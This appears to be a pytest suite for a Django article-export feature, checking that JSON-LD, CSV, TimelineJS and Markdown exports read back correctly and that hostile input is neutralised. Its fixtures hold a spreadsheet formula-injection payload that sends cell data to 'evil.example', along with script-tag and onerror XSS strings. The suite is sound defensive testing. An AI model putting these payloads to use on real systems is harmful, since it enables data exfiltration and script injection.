"""Exports of one article and of sets of articles (articles/exports/, articles/views/exports.py):
every format read back with its own reader."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.test import Client
from pyld import jsonld

from articles.exports import FORMATS
from articles.exports.item import markdown_text
from articles.ingest import ingest_article
from articles.models import Article, Attribution, Entity, Event, Figure, Mention, Segment

pytestmark = pytest.mark.django_db

ANNO_CONTEXT = Path(__file__).resolve().parents[1] / "articles" / "exports" / "anno.jsonld"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def local_context_loader(url, options=None):
    """pyld's document loader, serving only the local copy of the W3C context."""
    if url.rstrip("/") != "http://www.w3.org/ns/anno.jsonld":
        raise jsonld.JsonLdError(
            "Only the local W3C context may be loaded.", "loading", {"url": url}
        )
    document = json.loads(ANNO_CONTEXT.read_text(encoding="utf-8"))
    return {
        "contentType": "application/ld+json",
        "contextUrl": None,
        "documentUrl": url,
        "document": document,
    }


@pytest.fixture
def seed_article(seed_text: str) -> Article:
    return ingest_article(text=seed_text).article


def download(client: Client, article: Article, name: str):
    response = client.get(f"/articles/{article.pk}/{article.slug}/export/{name}")
    assert response.status_code == 200, response.status_code
    return response


def hostile_article(**fields) -> Article:
    """A stored article whose words are built to break each format."""
    text = (
        f"{HOSTILE} said <script>alert(1)</script> *bold* [x](javascript:alert(1)).\n"
        "@SUM(1+1) tewas 12 orang pada 3 Januari 2018.\n"
    )
    article = Article.objects.create(
        text=text,
        content_hash=str(hash(text)),
        title="-2+3 <b>judul</b>",
        slug="judul",
        language="id",
        published_on=date(2018, 1, 4),
        **fields,
    )
    Segment.objects.create(article=article, start=0, end=text.index("\n"), kind="body")
    second = text.index("@")
    Segment.objects.create(article=article, start=second, end=len(text) - 1, kind="body")
    entity = Entity.objects.create(name=HOSTILE, label="PER", slug="hostile", wikidata_id="Q42")
    Mention.objects.create(
        article=article, entity=entity, start=0, end=len(HOSTILE), text=HOSTILE, label="PER"
    )
    number = text.index("12")
    Figure.objects.create(
        article=article,
        key="fig-12-killed",
        start=number,
        end=number + 8,
        text="12 orang",
        value=12,
        qualifier="exact",
        unit="people",
        category="killed",
        source="@evil",
        as_of=date(2018, 1, 3),
    )
    when = text.index("3 Januari")
    Event.objects.create(
        article=article,
        key="t-2018-01-03",
        start=when,
        end=when + 14,
        text="3 Januari 2018",
        value="2018-01-03",
        date=date(2018, 1, 3),
        precision="day",
        sentence_start=second,
        sentence_end=len(text) - 1,
        summary="<img src=x onerror=alert(1)>",
    )
    cue = text.index("said")
    Attribution.objects.create(
        article=article,
        key="src-hostile-quote",
        start=cue,
        end=cue + 4,
        kind="quote",
        speaker=HOSTILE,
        speaker_entity=entity,
    )
    return article


# --- Web Annotation ------------------------------------------------------------------------


def test_the_web_annotation_export_expands_against_the_w3c_context(client, seed_article):
    data = json.loads(download(client, seed_article, "annotations.jsonld").content)

    expanded = jsonld.expand(data, {"documentLoader": local_context_loader})

    oa = "http://www.w3.org/ns/oa#"
    collection = expanded[0]
    assert collection["@type"] == ["http://www.w3.org/ns/activitystreams#OrderedCollection"]
    page = collection["http://www.w3.org/ns/activitystreams#first"][0]
    items = page["http://www.w3.org/ns/activitystreams#items"][0]["@list"]
    assert len(items) == data["total"] > 0
    assert all(item["@type"] == [oa + "Annotation"] for item in items)
    assert all(item[oa + "hasTarget"] and item[oa + "hasBody"] for item in items)


def test_each_selector_quotes_the_text_at_its_positions(client, seed_article):
    data = json.loads(download(client, seed_article, "annotations.jsonld").content)
    text = seed_article.body_text

    selectors = [
        target["selector"]
        for annotation in data["first"]["items"]
        for target in annotation["target"]
    ]

    assert len(selectors) > 20
    for quote, position in selectors:
        assert quote["type"] == "TextQuoteSelector" and position["type"] == "TextPositionSelector"
        assert quote["exact"] == text[position["start"] : position["end"]]
        assert text[: position["start"]].endswith(quote["prefix"])
        assert text[position["end"] :].startswith(quote["suffix"])


def test_each_annotation_id_is_a_fragment_of_the_article_permalink_shown_on_its_page(
    client, seed_article
):
    data = json.loads(download(client, seed_article, "annotations.jsonld").content)
    page = BeautifulSoup(client.get(seed_article.get_absolute_url()).content, "html.parser")
    permalink = "http://testserver" + seed_article.get_absolute_url()

    ids = [annotation["id"] for annotation in data["first"]["items"]]

    assert len(ids) == len(set(ids))
    assert all(i.startswith(permalink + "#") for i in ids)
    fragments = [i.split("#", 1)[1] for i in ids]
    assert {"ent-vladimir-putin", "fig-465000-killed", "t-2015-09-30"} <= set(fragments)
    missing = [f for f in fragments if page.find(id=f) is None]
    assert missing == []


def test_web_annotation_bodies_carry_type_entity_wikidata_value_and_source(client):
    article = hostile_article()

    data = json.loads(download(client, article, "annotations.jsonld").content)

    by_id = {a["id"].split("#")[1]: a for a in data["first"]["items"]}
    entity = by_id["ent-hostile"]["body"]
    assert entity[0]["schema:sameAs"] == {"id": "http://www.wikidata.org/entity/Q42"}
    assert entity[0]["source"] == "http://testserver/entities/hostile/"
    assert entity[1]["value"] == "Person"
    figure = by_id["fig-12-killed"]["body"]
    assert (
        figure[0]["schema:value"] == 12
        and figure[0]["schema:valueReference"]["schema:termCode"] == "exact"
    )
    assert figure[1]["value"] == "killed" and figure[2]["schema:name"] == "@evil"
    assert by_id["t-2018-01-03"]["body"][0]["value"] == "2018-01-03"
    chain = by_id["src-hostile-quote"]["body"]
    assert [b.get("schema:roleName") for b in chain[1:]] == ["speaker"]


# --- pipeline JSON ----------------------------------------------------------------------------


def test_the_pipeline_json_follows_the_clis_schema_with_keys(client, seed_article):
    data = json.loads(download(client, seed_article, "pipeline.json").content)

    assert {"language", "segments", "entities", "mentions", "events", "figures"} <= set(data)
    assert data["id"] == seed_article.pk and data["text"] == seed_article.body_text
    assert all(data["text"][m["start"] : m["end"]] == m["text"] for m in data["mentions"])
    assert sorted(data["figure_keys"]) == ["fig-12000000-displaced", "fig-465000-killed"]
    assert len(data["event_keys"]) == len(data["events"])


# --- CSV ---------------------------------------------------------------------------------------


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_the_figures_csv_reads_back_with_each_figure(client, seed_article):
    rows = read_csv(download(client, seed_article, "figures.csv"))

    assert sorted(row["key"] for row in rows) == ["fig-12000000-displaced", "fig-465000-killed"]
    killed = next(row for row in rows if row["category"] == "killed")
    assert killed["value"] == "465000"
    assert seed_article.body_text[int(killed["start"]) : int(killed["end"])] == killed["text"]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client):
    article = hostile_article()

    figures = read_csv(download(client, article, "figures.csv"))
    entities = read_csv(download(client, article, "entities.csv"))

    assert entities[0]["name"] == "'" + HOSTILE
    assert entities[0]["mention"] == "'" + HOSTILE
    assert figures[0]["source"] == "'@evil"
    assert int(figures[0]["value"]) == 12  # numbers stay numbers


def test_the_entities_csv_links_each_mention_to_its_mark(client, seed_article):
    rows = read_csv(download(client, seed_article, "entities.csv"))
    page = BeautifulSoup(client.get(seed_article.get_absolute_url()).content, "html.parser")

    putin = [row for row in rows if row["entity"] == "vladimir-putin"]
    linked = [row["url"].split("#")[1] for row in rows if "#" in row["url"]]

    assert len(putin) == seed_article.mentions.filter(entity__slug="vladimir-putin").count()
    assert all(page.find(id=fragment) is not None for fragment in linked)


def test_the_timeline_csv_lists_events_in_text_order(client, seed_article):
    rows = read_csv(download(client, seed_article, "timeline.csv"))

    assert [int(row["start"]) for row in rows] == sorted(int(row["start"]) for row in rows)
    assert "2015-09-30" in {row["value"] for row in rows}


# --- TimelineJS ---------------------------------------------------------------------------------


def test_the_timelinejs_export_has_the_documented_fields(client, seed_article):
    data = json.loads(download(client, seed_article, "timeline.json").content)

    assert data["title"]["text"]["headline"]
    assert len(data["events"]) == seed_article.events.count()
    for event in data["events"]:
        assert isinstance(event["start_date"]["year"], int)
        assert set(event["start_date"]) <= {"year", "month", "day"}
        assert event["text"]["headline"] and event["unique_id"]
    assert len({e["unique_id"] for e in data["events"]}) == len(data["events"])


def test_the_timelinejs_text_is_escaped_html(client):
    data = json.loads(download(client, hostile_article(), "timeline.json").content)

    event = data["events"][0]
    assert event["text"]["headline"] == "&lt;img src=x onerror=alert(1)&gt;"
    assert "<script" not in json.dumps(data) and "<img" not in json.dumps(data)


# --- Markdown ----------------------------------------------------------------------------------


def test_the_markdown_has_sources_and_figures_as_footnotes(client, seed_article):
    text = download(client, seed_article, "article.md").content.decode()

    assert text.startswith("# Bertemu Asad")
    assert "[^fig-465000-killed]:" in text and text.count("[^fig-465000-killed]") == 2
    assert "(http://testserver/entities/vladimir-putin/)" in text
    assert any(line.startswith("[^src-") for line in text.splitlines())


def test_the_markdown_carries_no_live_html_or_markup_from_the_article(client):
    text = download(client, hostile_article(), "article.md").content.decode()

    assert "<script" not in text and "<b>" not in text
    assert "&lt;script&gt;" in text
    assert "[x](javascript" not in text and "\\[x\\]" in text
    assert "\\*bold\\*" in text


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("# heading", "\\# heading"),
        ("1. list", "1\\. list"),
        ("a <img src=x>", "a &lt;img src=x&gt;"),
        ("[link](http://x)", "\\[link\\](http://x)"),
        ("plain words", "plain words"),
    ],
)
def test_markdown_text_escapes_markup(text, escaped):
    assert markdown_text(text) == escaped


# --- the page links its downloads ----------------------------------------------------------------


def test_the_article_page_has_a_download_menu_and_announces_each_export(client, seed_article):
    page = BeautifulSoup(client.get(seed_article.get_absolute_url()).content, "html.parser")

    menu = page.select("details.downloads a[href]")
    alternates = page.select('head link[rel="alternate"][type]')

    assert len(menu) == len(FORMATS)
    assert {a["href"] for a in menu} <= {link["href"] for link in alternates}
    for link in menu:
        assert client.get(link["href"]).status_code == 200


def test_an_unknown_format_is_not_found(client, seed_article):
    response = client.get(f"/articles/{seed_article.pk}/{seed_article.slug}/export/nope.exe")
    assert response.status_code == 404


def test_a_draft_cannot_be_exported_by_a_reader(client):
    article = hostile_article(status=Article.Status.DRAFT)

    response = client.get(f"/articles/{article.pk}/{article.slug}/export/pipeline.json")

    assert response.status_code == 404


# --- sets, streamed ---------------------------------------------------------------------------


def streamed(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def test_the_whole_collection_streams_as_json_lines_without_drafts(client, seed_article):
    hostile_article()
    hostile_article_draft = Article.objects.create(
        text="draft", content_hash="d", title="Draft", slug="draft", status=Article.Status.DRAFT
    )

    lines = streamed(client.get("/export/pipeline.json")).splitlines()

    ids = [json.loads(line)["id"] for line in lines]
    assert seed_article.pk in ids and len(ids) == 2
    assert hostile_article_draft.pk not in ids


def test_an_entity_set_holds_only_the_articles_that_mention_it(client, seed_article):
    hostile_article()

    rows = list(
        csv.DictReader(io.StringIO(streamed(client.get("/export/figures.csv?entity=hostile"))))
    )

    assert {row["key"] for row in rows} == {"fig-12-killed"}


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_every_format_streams_a_set_its_reader_accepts(client, seed_article, name):
    hostile_article()

    body = streamed(client.get(f"/export/{name}?q=Putin"))

    if name.endswith(".csv"):
        assert len(list(csv.reader(io.StringIO(body)))) > 1
    elif name == "pipeline.json":
        assert [json.loads(line)["id"] for line in body.splitlines()] == [seed_article.pk]
    elif name.endswith("json") or name.endswith("jsonld"):
        data = json.loads(body)
        assert data
    else:
        assert body.startswith("# Bertemu Asad")
